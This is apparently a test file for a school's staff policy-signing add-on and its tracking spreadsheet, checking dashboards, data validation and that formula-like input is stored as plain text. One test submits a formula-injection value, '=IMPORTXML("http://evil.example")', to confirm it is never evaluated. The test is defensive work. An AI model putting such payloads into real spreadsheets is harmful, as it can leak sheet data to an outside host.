import { Execution } from '../../emulator/core/execution';
import { createSpreadsheetApp } from '../../emulator/services/spreadsheet';
import { fromSheet } from '../../src/core/safe';
import { documentText } from '../../emulator/services/document/io';
import { readSheet } from '../../emulator/services/spreadsheet';
import { review, rowOf, sampleSchool, signatures } from './support';

const ZOE = 'zoe.lukasiewicz@school.example';

describe('the tracking sheet, as a business manager reads it', () => {
  it('has Form Tokens hidden, the Staff sheet’s drop-down and email checks (kept with Settings), and a Dashboard by staff type with its chart and its dates in words', async () => {
    const school = await sampleSchool();
    const zoe = school.host.as(ZOE);
    zoe.openHomepage('GMAIL');
    zoe.click('Sign', { consent: ['agree'], typedName: 'Zoë Łukasiewicz' });
    school.host.advance(5 * 60_000);
    const exec = new Execution(school.host.ws, 'editor', 'bm@school.example', 'bm@school.example');
    const ss = createSpreadsheetApp(exec).openById(school.config.trackingSpreadsheetId);
    expect(
      ss
        .getSheets()
        .filter((s) => s.isSheetHidden())
        .map((s) => s.getName()),
    ).toEqual(['Form Tokens']);
    const { values } = readSheet(school.host.ws, school.config.trackingSpreadsheetId, 'Dashboard');
    const row = (label: string) => values.find((r) => r[0] === label);
    expect(row('Cycle opened')?.[1]).toBe('1 September 2026');
    expect(row('Next cycle opens')?.[1]).toBe('1 September 2027');
    expect(row('Staff type')).toEqual([
      'Staff type',
      'Invited',
      'Signed',
      'Approved',
      'Complete',
      'Returned',
      'Overdue',
      'Total',
      '% complete',
    ]);
    const staffSheet = ss.getSheetByName('Staff')!;
    const typeRule = staffSheet.getRange('D2').getDataValidation();
    expect(typeRule?.getCriteriaValues()).toEqual([['Staff', 'Governor', 'Volunteer', 'Contractor'], true]);
    expect(staffSheet.getRange('A2500').getDataValidation()?.getCriteriaType()).toBe('TEXT_IS_VALID_EMAIL');
    expect(staffSheet.getRange('E2').getDataValidation()?.getCriteriaType()).toBe('TEXT_IS_VALID_EMAIL');
    const bm = school.host.as('bm@school.example');
    bm.openHomepage('GMAIL');
    bm.universalAction('onSettingsAction');
    bm.click('Save settings', { staffTypes: 'Staff, Governor, Volunteer, Contractor, Supply' });
    expect(staffSheet.getRange('D2').getDataValidation()?.getCriteriaValues()?.[0]).toContain('Supply');
    const charts = ss.getSheetByName('Dashboard')!.getCharts();
    expect(charts.map((c) => [c.getRanges()[0]?.getA1Notation(), c.getOptions().get('title')])).toEqual([
      ['A15:G19', '2026-27 by staff type and status'],
    ]);
    const staff = row('Staff');
    expect(staff?.[2]).toBe(1);
    expect(row('All')?.[7]).toBe(10);
  });
});

describe('the tracking sheet keeps what it is given', () => {
  it('text that looks like a formula stays text, even when other rows are rewritten around it', async () => {
    const school = await sampleSchool();
    const zoe = school.host.as(ZOE);
    zoe.openHomepage('GMAIL');
    zoe.click('Sign', { consent: ['agree'], typedName: 'Zoë Łukasiewicz' });
    const head = school.host.as('head@school.example');
    review(head, 'Zoë Łukasiewicz');
    head.click('Approve', { permissions: '=IMPORTXML("http://evil.example")' });
    school.host.advanceTo(new Date('2026-09-04T10:00:00Z'));
    expect(signatures(school).filter((r) => r['Reminders Sent'] === 1).length).toBeGreaterThan(5);
    expect(fromSheet(String(rowOf(school, ZOE).Permissions))).toBe('=IMPORTXML("http://evil.example")');
    school.host.advanceTo(new Date('2026-09-08T10:00:00Z'));
    expect(fromSheet(String(rowOf(school, ZOE).Permissions))).toBe('=IMPORTXML("http://evil.example")');
    const exec = new Execution(school.host.ws, 'editor', 'bm@school.example', 'bm@school.example');
    const sheet = createSpreadsheetApp(exec)
      .openById(school.config.trackingSpreadsheetId)
      .getSheetByName('Signatures')!;
    expect(sheet.getDataRange().getFormulas().flat().filter(Boolean)).toEqual([]);
  });

  it('a policy version that looks like a number stays text and never duplicates requests', async () => {
    const school = await sampleSchool({ policyVersion: '2.0' });
    const bm = school.host.as('bm@school.example');
    bm.openHomepage('GMAIL');
    expect(bm.click('Send invitations').notification).toMatch(/^0 new requests: everyone/);
    expect(signatures(school).map((r) => r['Policy Version'])).toEqual(Array(10).fill('2.0'));
    const home = JSON.stringify(school.host.as(ZOE).openHomepage('GMAIL').card);
    expect(home).toContain('"Sign"');
  });

  it('a roster pasted with values that look like formulas or numbers keeps them as text, and that person signs', async () => {
    const odd = [
      {
        email: 'plus.one@school.example',
        name: '+Ann Plus',
        role: '=HYPERLINK("https://school.example","Teacher")',
        staffType: 'Staff',
        personalEmail: '',
        startDate: '',
        line: 2,
      },
      {
        email: 'cover@school.example',
        name: 'Bo Cover',
        role: '+1 cover',
        staffType: 'Staff',
        personalEmail: '',
        startDate: '',
        line: 3,
      },
    ];
    const school = await sampleSchool({ roster: odd });
    const staff = readSheet(school.host.ws, school.config.trackingSpreadsheetId, 'Staff').values;
    expect(staff.slice(1, 3).map((r) => [r[1], r[2]])).toEqual([
      ['+Ann Plus', '=HYPERLINK("https://school.example","Teacher")'],
      ['Bo Cover', '+1 cover'],
    ]);
    const ann = school.host.as('plus.one@school.example');
    ann.openHomepage('GMAIL');
    expect(ann.click('Sign', { consent: ['agree'], typedName: 'Ann Plus' }).notification).toMatch(
      /^Signed\./,
    );
    const row = rowOf(school, 'plus.one@school.example');
    expect([fromSheet(String(row.Name)), fromSheet(String(row.Role)), row.Status]).toEqual([
      '+Ann Plus',
      '=HYPERLINK("https://school.example","Teacher")',
      'Signed',
    ]);
    const doc = [...school.host.ws.drive.values()].find((f) => f.name.includes('plus.one@school.example'));
    expect(documentText(school.host.ws, doc!.id)).toContain('=HYPERLINK("https://school.example","Teacher")');
  });
});
